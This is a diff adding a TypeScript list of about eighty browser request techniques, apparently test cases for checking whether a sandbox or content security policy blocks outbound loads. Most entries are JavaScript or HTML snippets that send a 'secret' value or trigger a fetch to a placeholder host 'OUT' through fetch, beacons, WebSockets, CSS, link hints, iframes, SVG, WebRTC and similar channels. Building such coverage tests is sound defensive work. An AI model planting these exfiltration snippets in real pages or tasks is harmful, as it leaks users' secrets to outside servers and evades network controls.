@@ -1,0 +1,202 @@
+import type { Attempt } from './attempt.ts'
+
+/** Ways to load, ask or send something. */
+export const LOADS: readonly Attempt[] = [
+  { name: 'fetch', js: `await fetch('http://OUT/?' + secret)` },
+  {
+    name: 'fetch-no-cors',
+    js: `await fetch('http://OUT/?' + secret, { mode: 'no-cors', credentials: 'include' })`,
+  },
+  {
+    name: 'fetch-keepalive',
+    js: `await fetch('http://OUT/', { method: 'POST', mode: 'no-cors', keepalive: true, body: secret })`,
+  },
+  {
+    name: 'fetch-later',
+    js: `fetchLater('http://OUT/', { activateAfter: 0 })`,
+    inertBecause: 'only over https',
+  },
+  {
+    name: 'xhr',
+    js: `const x = new XMLHttpRequest(); x.open('GET', 'http://OUT/?' + secret); const end = new Promise((r) => (x.onloadend = r)); x.send(); await end`,
+  },
+  {
+    name: 'xhr-sync',
+    js: `const x = new XMLHttpRequest(); x.open('GET', 'http://OUT/?' + secret, false); x.send()`,
+  },
+  { name: 'beacon', js: `navigator.sendBeacon('http://OUT/', secret)` },
+  {
+    name: 'websocket',
+    js: `const s = new WebSocket('ws://OUT/?' + secret); await new Promise((r) => (s.onclose = r))`,
+  },
+  { name: 'websocket-stream', js: `await new WebSocketStream('ws://OUT/?' + secret).opened` },
+  {
+    name: 'event-source',
+    js: `const s = new EventSource('http://OUT/?' + secret); await new Promise((r) => (s.onerror = r)); s.close()`,
+  },
+  { name: 'web-transport', js: `const w = new WebTransport('https://OUT/?' + secret); await w.ready` },
+  { name: 'image', html: `<img src="http://OUT/a.gif">` },
+  { name: 'image-srcset', html: `<img srcset="http://OUT/a.gif 1x">` },
+  { name: 'picture', html: `<picture><source srcset="http://OUT/a.gif"><img></picture>` },
+  {
+    name: 'new-image',
+    js: `const i = new Image(); i.src = 'http://OUT/a.gif?' + secret; await new Promise((r) => (i.onload = i.onerror = r))`,
+  },
+  { name: 'css-url', html: `<div style="background: url(http://OUT/a.gif)">x</div>` },
+  { name: 'css-import', head: `<style>@import url(http://OUT/a.css);</style>` },
+  {
+    name: 'css-font',
+    head: `<style>@font-face { font-family: f; src: url(http://OUT/a.woff2) }</style>`,
+    html: `<p style="font-family: f">x</p>`,
+  },
+  { name: 'css-image-set', html: `<div style="background: image-set('http://OUT/a.gif' 1x)">x</div>` },
+  { name: 'css-cursor', html: `<div style="cursor: url(http://OUT/a.gif), auto">x</div>` },
+  { name: 'css-mask', html: `<div style="mask: url(http://OUT/a.svg#m)">x</div>` },
+  {
+    name: 'css-attribute',
+    head: `<style>input[value^="s"] { background: url(http://OUT/a.gif) }</style>`,
+    html: `<input value="secret">`,
+  },
+  { name: 'font-face', js: `await new FontFace('f', 'url(http://OUT/a.woff2)').load()` },
+  {
+    name: 'adopted-style',
+    js: `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { list-style: url(http://OUT/a.gif) } ' })); document.body.append(document.createElement('li'))`,
+  },
+  { name: 'link-stylesheet', head: `<link rel="stylesheet" href="http://OUT/a.css">` },
+  {
+    name: 'link-alternate-stylesheet',
+    head: `<link rel="alternate stylesheet" title="x" href="http://OUT/a.css">`,
+  },
+  { name: 'link-icon', head: `<link rel="icon" href="http://OUT/a.gif">` },
+  { name: 'link-manifest', head: `<link rel="manifest" href="http://OUT/a.json">` },
+  { name: 'link-prefetch', head: `<link rel="prefetch" href="http://OUT/a">` },
+  { name: 'link-preload', head: `<link rel="preload" as="image" href="http://OUT/a.gif">` },
+  { name: 'link-preload-fetch', head: `<link rel="preload" as="fetch" crossorigin href="http://OUT/a">` },
+  { name: 'link-modulepreload', head: `<link rel="modulepreload" href="http://OUT/a.js">` },
+  { name: 'link-preconnect', head: `<link rel="preconnect" href="http://OUT/">` },
+  { name: 'link-dns-prefetch', head: `<link rel="dns-prefetch" href="//NAME">` },
+  {
+    name: 'link-dns-prefetch-on',
+    head: `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//NAME">`,
+  },
+  {
+    name: 'script-preconnect',
+    js: `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://OUT/' }))`,
+  },
+  {
+    name: 'script-dns-prefetch',
+    js: `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//NAME' }))`,
+  },
+  {
+    name: 'link-prerender',
+    head: `<link rel="prerender" href="http://OUT/a">`,
+    inertBecause: 'no longer in browsers',
+  },
+  {
+    name: 'speculation-prefetch',
+    head: `<script type="speculationrules">{"prefetch":[{"urls":["http://OUT/a"],"eagerness":"immediate"}]}</script>`,
+    inertBecause: 'only over https',
+  },
+  {
+    name: 'speculation-prerender',
+    head: `<script type="speculationrules">{"prerender":[{"urls":["http://OUT/a"],"eagerness":"immediate"}]}</script>`,
+    inertBecause: 'only for the same site',
+  },
+  { name: 'script', html: `<script src="http://OUT/a.js"></script>` },
+  { name: 'script-module', html: `<script type="module" src="http://OUT/a.js"></script>` },
+  { name: 'script-import', js: `await import('http://OUT/a.js?' + secret)` },
+  { name: 'script-import-map', html: `<script type="module">import('http://OUT/a.js')</script>` },
+  {
+    name: 'worker-import',
+    js: `const w = new Worker(URL.createObjectURL(new Blob(["importScripts('http://OUT/a.js')"]))); await new Promise((r) => (w.onerror = r))`,
+  },
+  { name: 'worklet', js: `await CSS.paintWorklet.addModule('http://OUT/a.js')` },
+  { name: 'audio-worklet', js: `await new AudioContext().audioWorklet.addModule('http://OUT/a.js')` },
+  { name: 'video', html: `<video src="http://OUT/a.mp4" preload="auto"></video>` },
+  { name: 'video-poster', html: `<video poster="http://OUT/a.gif"></video>` },
+  { name: 'audio', html: `<audio src="http://OUT/a.mp3" preload="auto"></audio>` },
+  {
+    name: 'track',
+    html: `<video src="data:video/mp4,x"><track default kind="subtitles" src="http://OUT/a.vtt"></video>`,
+    inertBecause: 'loads only beside a video that plays',
+  },
+  { name: 'object', html: `<object data="http://OUT/a"></object>` },
+  { name: 'embed', html: `<embed src="http://OUT/a">` },
+  { name: 'frame-http', html: `<iframe src="http://OUT/"></iframe>` },
+  { name: 'frame-data', html: `<iframe src="data:text/html,<img src='http://OUT/a.gif'>"></iframe>` },
+  {
+    name: 'frame-srcdoc',
+    html: `<iframe srcdoc="<img src='http://OUT/a.gif'><script>fetch('http://OUT/')</script>"></iframe>`,
+  },
+  {
+    name: 'frame-srcdoc-preconnect',
+    html: `<iframe srcdoc="<link rel=preconnect href='http://OUT/'>"></iframe>`,
+  },
+  {
+    name: 'frame-blob',
+    js: `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='http://OUT/a.gif'>"], { type: 'text/html' })); document.body.append(f); await new Promise((r) => (f.onload = r))`,
+  },
+  { name: 'frame-javascript', html: `<iframe src="javascript:'<img src=http://OUT/a.gif>'"></iframe>` },
+  {
+    name: 'frame-webrtc',
+    endsPage: true,
+    html: `<iframe srcdoc="<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUT' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>"></iframe>`,
+  },
+  {
+    name: 'fenced-frame',
+    js: `const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig('http://OUT/'); document.body.append(f)`,
+    inertBecause: 'only over https',
+  },
+  { name: 'portal', html: `<portal src="http://OUT/"></portal>`, inertBecause: 'no longer in browsers' },
+  {
+    name: 'svg-use',
+    html: `<svg><use href="http://OUT/a.svg#x"/></svg>`,
+    inertBecause: 'only from the same origin',
+  },
+  { name: 'svg-image', html: `<svg><image href="http://OUT/a.gif"/></svg>` },
+  {
+    name: 'svg-fe-image',
+    html: `<svg><filter id="f"><feImage href="http://OUT/a.gif"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
+  },
+  { name: 'svg-script', html: `<svg><script href="http://OUT/a.js"></script></svg>` },
+  { name: 'input-image', html: `<input type="image" src="http://OUT/a.gif">` },
+  { name: 'body-background', js: `document.body.setAttribute('background', 'http://OUT/a.gif')` },
+  { name: 'base', html: `<base href="http://OUT/"><img src="a.gif">` },
+  {
+    name: 'meta-csp-report',
+    head: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri http://OUT/"><meta http-equiv="Content-Security-Policy-Report-Only" content="img-src 'none'; report-uri http://OUT/">`,
+    html: `<img src="data:image/gif;base64,x">`,
+    alone: true,
+    inertBecause: 'reports are not told by markup',
+  },
+  {
+    name: 'payment',
+    js: `await new PaymentRequest([{ supportedMethods: 'http://OUT/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
+    inertBecause: 'only over https',
+  },
+  {
+    name: 'federated-sign-in',
+    js: `await navigator.credentials.get({ identity: { providers: [{ configURL: 'http://OUT/a.json', clientId: 'x' }] } })`,
+    inertBecause: 'only over https',
+  },
+  {
+    name: 'push',
+    js: `await navigator.serviceWorker.register('http://OUT/a.js')`,
+    inertBecause: 'only from the same origin',
+  },
+  {
+    name: 'clipboard-image',
+    js: `document.execCommand('insertImage', false, 'http://OUT/a.gif')`,
+    html: `<div contenteditable autofocus>x</div>`,
+  },
+  { name: 'document-write', html: `<script>document.write('<img src="http://OUT/a.gif">')</script>` },
+  {
+    name: 'html-import-node',
+    js: `document.body.insertAdjacentHTML('beforeend', '<img src="http://OUT/a.gif">')`,
+  },
+  {
+    name: 'xslt',
+    js: `const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://OUT/a.xsl"/></xsl:stylesheet>', 'text/xml'))`,
+    inertBecause: 'imports only from the same origin',
+  },
+]
